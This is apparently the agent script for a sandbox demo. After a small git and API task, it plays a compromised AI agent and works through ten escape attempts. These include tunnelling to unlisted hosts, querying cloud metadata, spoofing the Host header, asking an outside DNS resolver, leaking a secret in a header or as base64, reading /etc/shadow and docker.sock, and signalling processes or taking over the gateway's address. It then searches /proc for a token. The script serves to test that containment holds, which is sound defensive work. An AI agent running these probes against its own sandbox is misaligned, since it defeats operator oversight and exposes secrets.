// The agent of the demo: it does its work, and then, as a compromised agent would, tries ten ways out.
// It runs inside the bottle and prints one JSON object a line; the demo outside judges by what its own servers saw.
//
//   usage: node agent.mjs HOST_HOME DEMO_DIRECTORY TRAP_PORT
//
// The three arguments are what an attacker would have to guess: the operator's home, where this bottle's own files lie
// on the host, and a port on the host's loopback. DEMO_KEY is a secret that the operator chose to hand in.

import { execFileSync } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import path from 'node:path';
import http from 'node:http';
import net from 'node:net';
import tls from 'node:tls';

const [hostHome, demoDirectory, trapPort] = process.argv.slice(2);
const proxy = new URL(process.env.HTTPS_PROXY);
const key = process.env.DEMO_KEY;
const api = 'api.demo.example';

const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);

// ---- the work -------------------------------------------------------------------------------------------------------

function git(...args) {
  return execFileSync('git', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();
}

async function work() {
  git('clone', '--quiet', process.cwd(), '/tmp/clone');
  const tasks = await callApi('GET', '/v1/tasks');
  fs.writeFileSync('/tmp/clone/GREETING', 'hello, world\n');
  git('-C', '/tmp/clone', 'commit', '--quiet', '--all', '--message', 'Spell the greeting right');
  git('pull', '--quiet', '--ff-only', '/tmp/clone');
  const done = await callApi('POST', '/v1/tasks/1/done', '{"done":true}');
  const report = await callApi('GET', '/v1/tasks/1');
  say({
    work: true,
    commit: git('log', '-1', '--format=%h %s'),
    statuses: [tasks, done, report].map(({ status }) => status),
  });
}

// ---- how it speaks --------------------------------------------------------------------------------------------------

/** A tunnel through the gateway; refused ones reject with the gateway's own words. */
function tunnel(authority) {
  return new Promise((resolve, reject) => {
    const request = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: authority });
    request.once('connect', (response, socket) => {
      if (response.statusCode === 200) resolve(socket);
      else reject(new Error(`${response.statusCode} ${response.headers['x-bot-bottle-reason'] ?? ''}`.trim()));
    });
    request.once('error', reject);
    request.end();
  });
}

/** One HTTPS request to the API, with whatever headers are asked for. */
async function callApi(method, path, body = '', headers = {}) {
  const socket = tls.connect({
    socket: await tunnel(`${api}:443`),
    servername: api,
    ca: fs.readFileSync(process.env.NODE_EXTRA_CA_CERTS),
  });
  return new Promise((resolve, reject) => {
    const request = http.request({
      createConnection: () => socket,
      method,
      path,
      headers: { host: api, 'content-length': Buffer.byteLength(body), ...headers },
    });
    request.once('error', reject);
    request.once('response', (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk));
      response.on('end', () => {
        socket.destroy();
        resolve({ status: response.statusCode, reason: response.headers['x-bot-bottle-reason'] ?? '', text });
      });
    });
    request.end(body);
  });
}

/** A plain connection that asks nobody; resolves only if somebody answers. */
function connect(host, port) {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port, timeout: 2_000 });
    socket.once('connect', () => resolve('connected'));
    socket.once('timeout', () => reject(new Error('no answer')));
    socket.once('error', (failure) => reject(new Error(failure.code)));
  });
}

// ---- the ways out ---------------------------------------------------------------------------------------------------

const refused = ({ status, reason }) => {
  const text = `${status} ${reason}`.trim();
  if (status !== 403) return text;
  throw new Error(text);
};

/** Straight, past every proxy variable, and if that fails through the proxy; says how each failed. */
async function reach(host, port) {
  const straight = await failureOf(connect(host, port));
  const proxied = await failureOf(tunnel(`${host}:${port}`));
  if (straight === null || proxied === null) return straight === null ? 'connected' : 'a tunnel';
  throw new Error(`${straight}, ${proxied}`);
}

async function failureOf(promise) {
  try {
    await promise;
    return null;
  } catch (failure) {
    return failure.message;
  }
}

async function lookUp(name) {
  try {
    return (await dns.resolve4(name)).join(', ');
  } catch (failure) {
    throw new Error(failure.code === 'ENOTFOUND' ? 'NXDOMAIN' : failure.code);
  }
}

const base64 = (text) => Buffer.from(text).toString('base64');

/** What comes back got out; what throws was held, and says by what. */
const ways = [
  ['unlisted-host', 'an unlisted host', () => tunnel('trap.demo.example:443').then(() => 'a tunnel')],
  ['raw-address', 'the address 192.0.2.7', () => reach('192.0.2.7', 443)],
  ['host-spoof', 'another Host in an open tunnel', () => spoofHost()],
  ['dns-lookup', 'DNS lookup of an unlisted name', () => lookUp('trap.demo.example')],
  ['dns-outside', 'DNS straight to 198.51.100.53', () => askOutside()],
  ['metadata', 'metadata at 169.254.169.254', () => reach('169.254.169.254', 80)],
  ['secret-header', 'a known secret in a header', () => leak('GET', '', { 'x-note': key })],
  ['secret-base64', 'the same as base64 in a body', () => leak('POST', base64(`key=${key}`))],
  ['host-files', "reading the host's files", () => readHostFiles()],
  ['stop-bundle', 'stopping the bundle', () => stopBundle()],
];

async function spoofHost() {
  return refused(await callApi('GET', '/v1/tasks', '', { host: 'trap.demo.example' }));
}

async function leak(method, body, headers) {
  return refused(await callApi(method, '/v1/tasks', body, headers));
}

function askOutside() {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    socket.once('error', (failure) => reject(new Error(failure.code)));
    socket.once('message', () => resolve('an answer'));
    const query = Buffer.from('abcd01000001000000000000047472617004656d6f076578616d706c650000010001', 'hex');
    socket.send(query, 53, '198.51.100.53', (failure) => failure && reject(new Error(failure.code)));
    setTimeout(() => reject(new Error('no answer')), 2_000).unref();
  });
}

/** The operator's home, the files of this very bottle on the host, and what else would be worth having. */
function readHostFiles() {
  const wanted = [hostHome, '/root', demoDirectory, '/etc/shadow', '/run/docker.sock', '/run/bot-bottle'];
  const seen = wanted.filter((file) => file !== process.env.HOME && fs.existsSync(file));
  if (seen.length > 0) return `sees ${seen.join(', ')}`;
  throw new Error('no such files');
}

/**
 * By signal: every process but this one and the first inside, of which it is a child. By socket: whatever listens under
 * an abstract name, and the host's loopback. By name: taking the gateway's own address away from it. And at last it
 * asks the gateway whether it is still there.
 */
async function stopBundle() {
  const others = processes().filter((pid) => pid !== 1 && pid !== process.pid);
  const signalled = others.filter((pid) => canSignal(pid));
  if (signalled.length > 0) return `signalled ${signalled.length} processes`;
  const sockets = fs.readFileSync('/proc/net/unix', 'utf8').trim().split('\n').slice(1);
  if (sockets.length > 0) return `sees ${sockets.length} sockets`;
  if ((await failureOf(connect('127.0.0.1', Number(trapPort)))) === null) return "reached the host's loopback";
  if ((await failureOf(listen(proxy.hostname, Number(proxy.port)))) === null) return "took the gateway's address";
  if ((await failureOf(tunnel(`${api}:443`))) !== null) return 'the gateway is gone';
  throw new Error('nothing to reach; it still answers');
}

function canSignal(pid) {
  try {
    return process.kill(pid, 0);
  } catch {
    // Gone, or not ours to signal.
    return false;
  }
}

function listen(host, port) {
  return new Promise((resolve, reject) => {
    const server = net.createServer();
    server.once('error', reject);
    server.listen({ host, port }, () => server.close(resolve));
  });
}

async function tryAll() {
  for (const [id, tried, attempt] of ways) {
    try {
      say({ id, tried, seen: String(await attempt()), out: true });
    } catch (failure) {
      say({ id, tried, seen: failure.message, out: false });
    }
  }
}

// ---- is the API's token anywhere in here? ---------------------------------------------------------------------------

/** In pieces, so that the search does not find itself. */
const TOKEN_START = ['demo', 'token', ''].join('-');

function processes() {
  return fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map(Number);
}

function contains(file) {
  try {
    return fs.readFileSync(file).includes(TOKEN_START);
  } catch {
    // Not ours to read, not a file, or gone.
    return false;
  }
}

/** Looks in the environment, in every process that can be seen, and in every file that was put in here for it. */
function searchToken() {
  const ofProcesses = processes().flatMap((pid) => [`/proc/${pid}/environ`, `/proc/${pid}/cmdline`]);
  const directories = [process.env.HOME, '/opt/bot-bottle/ca.pem', '/tmp', '/etc'];
  const files = directories.flatMap((directory) =>
    fs.statSync(directory).isDirectory()
      ? fs.readdirSync(directory, { recursive: true }).map((name) => path.join(directory, name))
      : [directory],
  );
  const inside = JSON.stringify(process.env).includes(TOKEN_START) || [...ofProcesses, ...files].some(contains);
  say({ search: true, looked: ofProcesses.length + files.length, found: inside });
}

await work();
await tryAll();
searchToken();
process.exit(0);
